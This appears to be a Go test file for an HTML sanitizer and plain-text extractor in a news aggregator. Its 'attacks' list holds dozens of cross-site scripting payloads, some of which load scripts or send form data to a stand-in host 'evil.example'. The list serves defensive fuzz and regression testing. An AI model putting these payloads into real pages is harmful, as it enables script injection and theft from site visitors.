package aggregator

import (
	"encoding/xml"
	"io"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

func TestPlainText(t *testing.T) {
	for name, c := range map[string]struct{ in, want string }{
		"plain stays":                    {"Rat tagt am Montag", "Rat tagt am Montag"},
		"white space folds":              {"  Rat \n\t tagt\u00a0heute ", "Rat tagt heute"},
		"tags go":                        {"<p>Rat <b>tagt</b>.</p><p>Gäste willkommen</p>", "Rat tagt. Gäste willkommen"},
		"inline tags make no space":      {"Stadt<b>rat</b>", "Stadtrat"},
		"blocks make one":                {"<li>Eins</li><li>Zwei</li>drei<br>vier", "Eins Zwei drei vier"},
		"entities":                       {"M&uuml;ll &amp; Abfall &ndash; neu &#8222;hier&#x201C;", "Müll & Abfall – neu „hier“"},
		"escaped twice":                  {"M&amp;uuml;ll &amp;amp; Abfall", "Müll & Abfall"},
		"tags escaped twice":             {"&lt;p&gt;Neue &lt;b&gt;Kita&lt;/b&gt;&lt;/p&gt;", "&lt;p&gt;"[:0] + "<p>Neue <b>Kita</b></p>"},
		"tags and entities escaped":      {"&lt;p&gt;F&amp;uuml;r alle&lt;/p&gt;", "Für alle"},
		"soft hyphens":                   {"Bundes\u00adtags&shy;wahl", "Bundestagswahl"},
		"invisible and turning marks":    {"a\u200bb\ufeffc\u202ed", "abcd"},
		"control characters":             {"a\x00b\x08c&#1;d\x7f", "abcd"},
		"invalid UTF-8":                  {"a\xff\xfeb\xe4", "ab"},
		"scripts and styles":             {"a<script>alert('<p>')</script>b<style>p{}</style>c", "a b c"},
		"captions are no text":           {"<figure><img alt='Bonn'><figcaption>Foto: Stadt Essen</figcaption></figure>Neues", "Neues"},
		"comments":                       {"a<!-- <b> -->b", "ab"},
		"a comparison is no tag":         {"1 < 2 und 3 > 2", "1 < 2 und 3 > 2"},
		"an unfinished tag is text":      {"Stadt <b", "Stadt <b"},
		"a quote may hold the end":       {`<a title="a > b">Link</a>`, "Link"},
		"an open quote does not eat all": {`<a title="x>Link</a>`, "Link"},
		"a bare ampersand":               {"Bau & Technik &co; x", "Bau & Technik &co; x"},
		"an unknown tag in angle quotes": {"Treffen &lt;Nord&gt;", "Treffen <Nord>"},
	} {
		if got := PlainText(c.in); got != c.want {
			t.Errorf("%s: PlainText(%q) = %q, want %q", name, c.in, got, c.want)
		}
	}
}

// attacks are ways in which markup has made browsers run code, each written down by us.
var attacks = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<img/src/onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="java&#10;script:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`,
	`<a href="//ok.example/" onclick="alert(1)" style="x:expression(alert(1))" id=a name=b class=c target=_top>x</a>`,
	`<svg><script>alert(1)</script></svg>`, `<svg onload=alert(1)>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
	`<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<object data="x"></object>`, `<embed src=x>`,
	`<style>@import 'https://evil.example'</style>`, `<link rel=stylesheet href=//evil.example>`, `<base href="https://evil.example/">`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><img src=x onerror=alert(1)></template>`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<textarea></textarea><script>alert(1)</script>`,
	`<table><form><tr><td><a href="javascript:alert(1)">x`, `<p title='"><script>alert(1)</script>'>x`, "<a href='https://a.example/\"onmouseover=alert(1)'>x</a>",
	`<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml <script>alert(1)</script>?>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`, `<video><source onerror=alert(1)></video>`, `<details open ontoggle=alert(1)>x</details>`,
	`<b><p><b><p></b><i></p>x</i>`, `<a href=x><a href=y><table><a href=z></table></a>`, `<select><option><style></select><img src=x onerror=alert(1)></style>`,
	"<img src=https://a.example/x.png\x00onerror=alert(1)>", `<a href="mailto:a@b.example?subject=x">m</a>`, `<h1>H</h1><ul><li>x<li>y</ul>`,
	`<a href="https://user:secret@a.example/">x</a>`, `<a href="http:&#x2f;&#x2f;a.example\@b.example">x</a>`, `<pre>` + "\n\nx</pre>",
	strings.Repeat("<div>", 600) + "x<script>alert(1)</script>", strings.Repeat("<b>", 300) + "x",
}

func TestCleanLetsNothingRun(t *testing.T) {
	for _, in := range append(attacksOnFile(t), attacks...) {
		checkClean(t, in)
	}
}

func FuzzClean(f *testing.F) {
	for _, in := range append(attacksOnFile(f), attacks...) {
		f.Add(in)
	}
	f.Fuzz(checkClean)
}

func FuzzPlainText(f *testing.F) {
	for _, in := range attacks {
		f.Add(in)
	}
	f.Fuzz(func(t *testing.T, in string) {
		text := PlainText(in)
		if text != strings.Join(strings.Fields(text), " ") || visible(text) != text {
			t.Errorf("PlainText(%q) = %q", in, text)
		}
	})
}

// checkClean judges the output of Clean by a reader of its own: as XML, element by element.
func checkClean(t *testing.T, in string) {
	for _, images := range []bool{false, true} {
		out := Clean(in, "https://a.example/dir/", images)
		if again := Clean(out, "https://a.example/dir/", images); again != out {
			t.Errorf("Clean(%q) = %q, cleaned again: %q", in, out, again)
		}
		if tree := browserTree(t, out); tree != out {
			t.Errorf("Clean(%q) = %q, which a browser reads as %q", in, out, tree)
		}
		d := xml.NewDecoder(strings.NewReader("<x>" + out + "</x>"))
		for {
			token, err := d.Token()
			if err == io.EOF {
				break
			}
			if err != nil {
				t.Errorf("Clean(%q) = %q is not well-formed: %v", in, out, err)
				break
			}
			switch e := token.(type) {
			case xml.StartElement:
				checkElement(t, in, e, images)
			case xml.Comment, xml.Directive, xml.ProcInst:
				t.Errorf("Clean(%q) = %q holds %v", in, out, e)
			}
		}
	}
}

// browserTree is markup as the tree algorithm of HTML5 reads it, written down again.
func browserTree(t *testing.T, markup string) string {
	nodes, err := html.ParseFragment(strings.NewReader(markup), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		t.Errorf("%v in %q", err, markup)
	}
	var out strings.Builder
	for _, n := range nodes {
		if err := html.Render(&out, n); err != nil {
			t.Error(err)
		}
	}
	return out.String()
}

func checkElement(t testing.TB, in string, e xml.StartElement, images bool) {
	allowed := " x a abbr b blockquote br caption cite code dd del dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img ins " +
		"kbd li mark ol p pre q s samp small span strong sub sup table tbody td tfoot th thead time tr u ul var "
	if !strings.Contains(allowed, " "+e.Name.Local+" ") || e.Name.Local == "img" && !images {
		t.Errorf("Clean(%q) lets <%s> through", in, e.Name.Local)
	}
	for _, a := range e.Attr {
		switch v := a.Value; a.Name.Local {
		case "href", "src":
			if !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "mailto:") {
				t.Errorf("Clean(%q) lets %s=%q through", in, a.Name.Local, v)
			}
		case "rel":
			if v != "noopener nofollow" {
				t.Errorf("Clean(%q) has rel=%q", in, v)
			}
		case "title", "alt", "width", "height", "colspan", "rowspan":
		default:
			t.Errorf("Clean(%q) lets attribute %s through", in, a.Name.Local)
		}
	}
}

func TestCleanKeepsWhatMayBeShown(t *testing.T) {
	for name, c := range map[string]struct {
		in, want string
		images   bool
	}{
		"text":             {in: "Rat & Verwaltung", want: "Rat &amp; Verwaltung"},
		"structure":        {in: "<p>Eins<p>Zwei<ul><li>a<li>b</ul>", want: "<p>Eins</p><p>Zwei</p><ul><li>a</li><li>b</li></ul>"},
		"relative address": {in: `<a href="../x?y=1#z">x</a>`, want: `<a href="https://a.example/x?y=1#z" rel="noopener nofollow">x</a>`},
		"mail":             {in: `<a href="mailto:rat@a.example">x</a>`, want: `<a href="mailto:rat@a.example" rel="noopener nofollow">x</a>`},
		"no image":         {in: `<p>a<img src="/b.png" alt="b"></p>`, want: `<p>a</p>`},
		"image":            {in: `<img src="/b.png" alt="b" width=10 onload=x>`, want: `<img src="https://a.example/b.png" alt="b" width="10"/>`, images: true},
		"unwrapped":        {in: `<section><p>a</p><font color=red>b<form>c</form></font></section>`, want: `<p>a</p>bc`},
		"link to nowhere":  {in: `<a name=x>a</a> <a href="#x">b</a>`, want: `a b`},
		"line break":       {in: `a<br>b`, want: `a<br/>b`},
		"heading":          {in: `<h1 id=a>A</h1>`, want: `<h2>A</h2>`},
	} {
		if got := Clean(c.in, "https://a.example/dir/page", c.images); got != c.want {
			t.Errorf("%s: Clean(%q) = %q, want %q", name, c.in, got, c.want)
		}
	}
}

func TestWhatIsTooLongForAnArticleIsShownAsPlainText(t *testing.T) {
	if out := Clean(strings.Repeat("Wort <b>fett</b> ", 1<<16), "https://a.example/", true); strings.Count(out, "<") != 2 || !strings.HasPrefix(out, "<p>") {
		t.Errorf("%.100q", out)
	}
}

func TestMarkupIsNestedAsBrowsersWouldNestIt(t *testing.T) {
	for name, c := range map[string]struct{ in, want string }{
		"a list ends a paragraph":          {"<p>a<ul><li>b</ul>c", "<p>a</p><ul><li>b</li></ul>c"},
		"a link ends a link":               {`<a href="/x">a<b>b<a href="/y">c</a>`, `<a href="https://a.example/x" rel="noopener nofollow">a<b>b</b></a><a href="https://a.example/y" rel="noopener nofollow">c</a>`},
		"closed in the wrong order":        {"<b>a<i>b</b>c</i>d", "<b>a<i>b</i></b>cd"},
		"a list in a list":                 {"<ul><li>a<ul><li>b<li>c</ul><li>d</ul>", "<ul><li>a<ul><li>b</li><li>c</li></ul></li><li>d</li></ul>"},
		"terms":                            {"<dl><dt>a<dd>b<dt>c</dl>", "<dl><dt>a</dt><dd>b</dd><dt>c</dt></dl>"},
		"a bare table":                     {"<table><tr><td>a<td>b<tr><td>c</table>", "<table><tbody><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></tbody></table>"},
		"cells without a row":              {"<table><td>a</table>", "<table><tbody><tr><td>a</td></tr></tbody></table>"},
		"words in no cell":                 {"<table>a<tr><td>b</table>", "<table><tbody><tr><td>a</td></tr><tr><td>b</td></tr></tbody></table>"},
		"a table in a cell":                {"<table><tr><td><table><tr><td>a</table>b</table>", "<table><tbody><tr><td><table><tbody><tr><td>a</td></tr></tbody></table>b</td></tr></tbody></table>"},
		"parts of no table":                {"<tr><td>a</td></tr>b", "ab"},
		"an end in a cell stays there":     {"<div><table><tr><td>a</div>b</table>c</div>", "<div><table><tbody><tr><td>ab</td></tr></tbody></table>c</div>"},
		"a line break behind pre":          {"<pre>\n a\n b</pre>", "<pre> a\n b</pre>"},
		"what is left out has its own end": {"<div><video><div>a</div></video>b</div>c", "<div>b</div>c"},
		"what is never closed ends around": {"<p><video>a</p>b", "<p></p>b"},
		"left out and closed in itself":    {`a<iframe src="x"></iframe>b<video/>c<embed src="y">d`, "abcd"},
	} {
		if got := Clean(c.in, "https://a.example/", false); got != c.want {
			t.Errorf("%s: Clean(%q) = %q, want %q", name, c.in, got, c.want)
		}
	}
}

func BenchmarkClean(b *testing.B) {
	in := strings.Repeat(`<p class="x">Der Rat hat am <strong>Montag</strong> beschlossen, siehe <a href="/x">hier</a>. `, 11)
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		Clean(in, "https://a.example/", false)
	}
}

// BenchmarkBluemonday is what the second list alone costs.
func BenchmarkBluemonday(b *testing.B) {
	in := strings.Repeat(`<p class="x">Der Rat hat am <strong>Montag</strong> beschlossen, siehe <a href="/x">hier</a>. `, 11)
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		shown.Sanitize(in)
	}
}

func BenchmarkPlainText(b *testing.B) {
	in := strings.Repeat(`<p class="x">Der Rat hat am <strong>Montag</strong> beschlossen, für M&uuml;ll siehe <a href="/x">hier</a>. `, 10)
	b.SetBytes(int64(len(in)))
	for b.Loop() {
		PlainText(in)
	}
}
